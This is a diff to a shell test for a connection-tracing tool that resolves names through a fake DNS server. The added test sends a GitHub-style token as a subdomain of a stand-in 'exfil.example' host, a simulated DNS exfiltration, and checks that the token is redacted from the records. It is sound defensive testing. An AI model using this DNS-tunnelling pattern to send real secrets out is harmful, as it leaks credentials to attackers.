@@ -8,7 +8,8 @@ source "$(dirname "$0")/../attest/attest_lib.sh"
 skip_unless_traceable
 here=$(cd "$(dirname "$0")" && pwd)
 $PY "$here/fake_dns.py" 127.0.0.2 files.example.net=127.0.0.3 cdn.example.net=127.0.0.4 \
-  'registry.example.com=>cdn.example.net' udp.example.org=127.0.0.5 > dns.out 2> dns.err &
+  'registry.example.com=>cdn.example.net' udp.example.org=127.0.0.5 \
+  ghp_Zx9aQ7bN3kLm5pR8sT2vW4yC6dF1gH0jK3nM.exfil.example=127.0.0.6 > dns.out 2> dns.err &
 dns=$!
 on_exit "kill $dns"
 for _ in $(seq 50); do grep -q ready dns.out && break; kill -0 $dns 2>/dev/null || break; sleep 0.1; done
@@ -36,6 +37,14 @@ pass "UDP (sendto/recvfrom): the connection is named by the answer"
 expect_eq "$(cat out)" 127.0.0.4 "tcp answer (through the CNAME)"
 expect_eq "$(host_of "$(last_record)" 127.0.0.4)" registry.example.com "host of a connection resolved over TCP via a CNAME"
 pass "TCP (recvmsg), through a CNAME: named by the name asked for"
+
+# A token travelling as a subdomain is redacted in the recorded name, like any recorded text.
+"$HM" run -q --trace --step leak -- $PY "$here/dns_client.py" udp ghp_Zx9aQ7bN3kLm5pR8sT2vW4yC6dF1gH0jK3nM.exfil.example 8443 > out ||
+  fail "leak step"
+host=$(host_of "$(last_record)" 127.0.0.6)
+case "$host" in *exfil.example) ;; *) fail "no host for the token name: '$host'" ;; esac
+grep -rq "Zx9aQ7bN3kLm5pR8sT2vW4yC6dF1gH0jK3nM" .hallmark && fail "the token reached the record dir"
+pass "a token in a resolved name is redacted in the record"
 
 # Not resolved by this step: an address connected to by number stays unnamed.
 "$HM" run -q --trace --step bare -- bash -c 'exec 3<>/dev/tcp/127.0.0.3/8443' 2>/dev/null || true
